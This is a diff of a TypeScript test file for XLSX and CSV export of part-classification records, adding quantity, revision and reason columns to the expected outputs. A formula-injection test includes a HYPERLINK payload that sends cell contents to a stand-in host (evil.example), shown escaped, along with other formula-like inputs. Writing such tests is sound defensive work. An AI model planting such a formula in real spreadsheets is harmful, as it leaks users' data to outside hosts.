@@ -48,7 +48,7 @@ describe('export', () => {
     await workbook.xlsx.load((await buildXlsx(rows)) as unknown as ExcelJS.Buffer);
     const sheet = workbook.worksheets[0]!;
     const values = (rowNumber: number) => EXPORT_COLUMNS.map((_, index) => sheet.getRow(rowNumber).getCell(index + 1).value ?? null);
-    expect(values(1)).toEqual(['Seq', 'Partnumber', 'Descrição ERP', 'Descrição DI', 'NCM', 'Fabricante', 'Endereço', 'País', 'Confiança', 'Status', 'Alternativas']);
+    expect(values(1)).toEqual(['Seq', 'Partnumber', 'Descrição ERP', 'Descrição DI', 'NCM', 'Fabricante', 'Endereço', 'País', 'Confiança', 'Status', 'Alternativas', 'Quantidade', 'Revisão', 'Motivo']);
     expect(values(2)).toEqual([
       1,
       'LM358DR',
@@ -61,19 +61,22 @@ describe('export', () => {
       0.88,
       'done',
       '8542.31.90 (0.41); 8542.33.00 (0.20)',
+      10,
+      'ACTIVE',
+      null,
     ]);
-    expect(values(3)).toEqual([2, 'FAIL-1', null, null, null, null, null, null, null, 'failed', null]);
-    expect(values(4)).toEqual([3, 'WAIT-1', 'linha\ncom quebra', null, null, 'ACME', null, null, null, 'cancelled', null]);
+    expect(values(3)).toEqual([2, 'FAIL-1', null, null, null, null, null, null, null, 'failed', null, 10, null, 'boom']);
+    expect(values(4)).toEqual([3, 'WAIT-1', 'linha\ncom quebra', null, null, 'ACME', null, null, null, 'cancelled', null, 10, null, null]);
     expect(sheet.rowCount).toBe(4);
   });
 
   it('writes a semicolon CSV with a BOM, quoting what needs quoting', () => {
     const csv = buildCsv(rows);
-    expect(csv.startsWith('\uFEFFSeq;Partnumber;Descrição ERP;Descrição DI;NCM;Fabricante;Endereço;País;Confiança;Status;Alternativas\r\n')).toBe(true);
+    expect(csv.startsWith('\uFEFFSeq;Partnumber;Descrição ERP;Descrição DI;NCM;Fabricante;Endereço;País;Confiança;Status;Alternativas;Quantidade;Revisão;Motivo\r\n')).toBe(true);
     const lines = csv.slice(1).split('\r\n');
-    expect(lines[1]).toBe('1;LM358DR;AMP OP DUPLO SOIC8;"Circuito integrado amplificador operacional; ""duplo""";8542.39.90;Texas Instruments;;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)"');
-    expect(lines[2]).toBe('2;FAIL-1;;;;;;;;failed;');
-    expect(lines[3]).toBe('3;WAIT-1;"linha\ncom quebra";;;ACME;;;;cancelled;');
+    expect(lines[1]).toBe('1;LM358DR;AMP OP DUPLO SOIC8;"Circuito integrado amplificador operacional; ""duplo""";8542.39.90;Texas Instruments;;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)";10;ACTIVE;');
+    expect(lines[2]).toBe('2;FAIL-1;;;;;;;;failed;;10;;boom');
+    expect(lines[3]).toBe('3;WAIT-1;"linha\ncom quebra";;;ACME;;;;cancelled;;10;;');
     expect(lines[4]).toBe('');
   });
 
@@ -86,11 +89,11 @@ describe('export', () => {
     ];
     const lines = buildCsv(risky).slice(1).split('\r\n');
     expect(lines[1]).toBe(
-      `1;"'=HYPERLINK(""http://evil.example/?q=""&A1,""clique"")";'+55 11 5555-0000;'-Circuito integrado;8542.39.90;'@SUM(1+1);;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)"`,
+      `1;"'=HYPERLINK(""http://evil.example/?q=""&A1,""clique"")";'+55 11 5555-0000;'-Circuito integrado;8542.39.90;'@SUM(1+1);;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)";10;ACTIVE;`,
     );
-    expect(lines[2]).toBe(`2;'-LM317T;'\tTAB;;;"'\rCR";;;;done;`);
-    expect(lines[3]).toBe('3;BC547;"Transistor NPN; 45 V = 100 mA";;;onsemi;;;;done;');
-    expect(lines[4]).toBe('4;NEG-1;AMP OP DUPLO SOIC8;;;TI;;;-1;done;');
+    expect(lines[2]).toBe(`2;'-LM317T;'\tTAB;;;"'\rCR";;;;done;;10;;`);
+    expect(lines[3]).toBe('3;BC547;"Transistor NPN; 45 V = 100 mA";;;onsemi;;;;done;;10;;');
+    expect(lines[4]).toBe('4;NEG-1;AMP OP DUPLO SOIC8;;;TI;;;-1;done;;10;;');
   });
 
   it('writes formula-like text to the XLSX as text, not as a formula', async () => {
